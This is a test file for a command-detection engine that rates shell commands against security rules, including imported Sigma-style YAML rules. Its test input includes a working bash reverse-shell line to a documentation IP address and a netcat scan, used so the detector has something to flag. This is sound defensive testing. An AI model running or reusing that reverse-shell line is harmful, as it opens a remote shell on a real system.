import { describe, expect, it } from 'vitest';
import { CommandJudge, ruleName, ruleReason } from '../../src/commands/command-judge.js';
import { commandRules } from '../../src/rules/command-rules.js';

const SHELL = 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1';

describe('the judge of commands', () => {
  it('gives the gravest rule, when it is grave enough', () => {
    const judge = new CommandJudge();
    expect(judge.worst(SHELL, 'medium')).toMatchObject({
      rule: 'command.reverse_shell_dev_tcp',
      severity: 'critical',
    });
    expect(judge.worst('nc -zv 192.0.2.9 22', 'high')).toBeUndefined();
    expect(judge.worst('ls -l', 'low')).toBeUndefined();
  });

  it('asks the rules once for each command', () => {
    let asked = 0;
    const rules = commandRules();
    const judge = new CommandJudge({
      errors: [],
      match(command) {
        asked += 1;
        return rules.match(command);
      },
    });
    for (let index = 0; index < 100; index += 1) judge.worst(index % 2 === 0 ? SHELL : 'ls -l', 'low');
    expect(asked).toBe(2);
  });

  it('names the author and the licence of a rule that is not ours', () => {
    const more = [
      {
        file: 'theirs.yml',
        text: 'title: T\nid: 11111111-1111-4111-8111-111111111111\nname: theirs\nauthor: Someone\nlicense: DRL 1.1\nlevel: critical\nlogsource: { product: linux, category: process_creation }\ndetection: { selection: { CommandLine|contains: frobnicate }, condition: selection }\n',
      },
    ];
    const hit = new CommandJudge(commandRules({ more })).worst('frobnicate now', 'low');
    if (hit === undefined) throw new Error('their rule matches');
    expect(ruleName(hit)).toBe('theirs');
    expect(ruleReason(hit)).toBe('rule command.theirs by Someone (DRL 1.1)');
  });
});
